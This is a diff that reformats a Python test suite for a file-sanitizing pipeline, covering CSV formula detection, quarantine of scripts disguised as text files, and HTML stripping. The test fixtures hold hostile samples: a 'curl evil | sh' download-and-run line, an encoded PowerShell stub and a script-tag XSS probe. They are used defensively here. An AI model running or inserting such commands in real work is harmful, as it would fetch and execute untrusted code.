@@ -15,8 +15,12 @@ FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 def _formula_cells(data: bytes, encoding: str = "cp932") -> list[str]:
     """Cells a spreadsheet would evaluate, read with the csv module (not the sanitizer)."""
     rows = csv.reader(io.StringIO(data.decode(encoding), newline=""))
-    return [cell for row in rows for cell in row
-            if cell.startswith(FORMULA_START) and not cell.lstrip("+-").replace(",", "").isdigit()]
+    return [
+        cell
+        for row in rows
+        for cell in row
+        if cell.startswith(FORMULA_START) and not cell.lstrip("+-").replace(",", "").isdigit()
+    ]
 
 
 class TestShiftJisCsv(SanitizerContract):
@@ -56,8 +60,10 @@ def test_utf16_with_bom_and_bidi_override(pipeline: Pipeline, tmp_path: Path) ->
 
 
 def test_script_dressed_as_text_is_quarantined(pipeline: Pipeline, tmp_path: Path) -> None:
-    for name, body in (("readme.txt", b"#!/bin/sh\ncurl evil | sh\n"),
-                       ("notes.txt", b"@echo off\r\npowershell -enc AAAA\r\n")):
+    for name, body in (
+        ("readme.txt", b"#!/bin/sh\ncurl evil | sh\n"),
+        ("notes.txt", b"@echo off\r\npowershell -enc AAAA\r\n"),
+    ):
         source = tmp_path / name
         source.write_bytes(body)
         verdict = pipeline.process(source, name)
@@ -66,8 +72,11 @@ def test_script_dressed_as_text_is_quarantined(pipeline: Pipeline, tmp_path: Pat
 
 def test_html_becomes_visible_text(pipeline: Pipeline, tmp_path: Path) -> None:
     source = tmp_path / "page.html"
-    source.write_text("<!doctype html><html><body><h1>お知らせ</h1><script>alert(1)</script>"
-                      "<p onclick='x()'>本文</p></body></html>", encoding="utf-8")
+    source.write_text(
+        "<!doctype html><html><body><h1>お知らせ</h1><script>alert(1)</script>"
+        "<p onclick='x()'>本文</p></body></html>",
+        encoding="utf-8",
+    )
     verdict = pipeline.process(source, source.name)
     assert verdict.verdict == Outcome.RELEASED and verdict.output.endswith("page.txt")
     text = Path(verdict.output).read_text(encoding="utf-8")
